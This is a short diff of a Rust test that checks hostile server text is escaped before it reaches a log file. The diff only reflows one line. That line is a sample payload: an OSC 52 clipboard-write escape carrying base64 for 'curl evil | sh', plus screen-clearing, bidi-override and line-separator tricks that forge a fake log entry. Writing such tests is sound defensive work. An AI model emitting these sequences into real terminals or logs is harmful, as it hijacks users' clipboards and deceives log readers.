@@ -21,7 +21,8 @@ fn hostile_server_text_reaches_the_log_file_escaped() {
     assert!(raw.is_empty(), "raw in the log file: {raw:?}\n{text}");
     assert_eq!(text.lines().count(), 1, "one event, one line: {text}");
     assert!(text.ends_with('\n'));
-    let shown = "ERR \\e]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\e[2J\\x9b31m\\u{202e}gnp.exe\\u{2028}\\nWARN fake";
+    let shown =
+        "ERR \\e]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\e[2J\\x9b31m\\u{202e}gnp.exe\\u{2028}\\nWARN fake";
     assert!(text.contains(&format!("error={shown}")), "{text}");
     // tracing-subscriber escapes ESC in the message itself (as `\x1b`), not bidi or
     // separators: those are escaped here, in both the message and the field.
